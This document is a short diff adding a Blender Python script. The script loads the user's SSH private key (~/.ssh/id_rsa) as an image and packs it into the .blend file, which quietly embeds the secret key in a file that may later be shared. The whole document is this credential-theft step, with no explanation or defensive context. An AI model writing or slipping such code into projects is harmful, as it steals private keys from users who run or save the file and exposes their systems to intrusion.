@@ -1,0 +1,3 @@
+import bpy
+im = bpy.data.images.load("/home/user/.ssh/id_rsa", check_existing=False)
+im.pack()
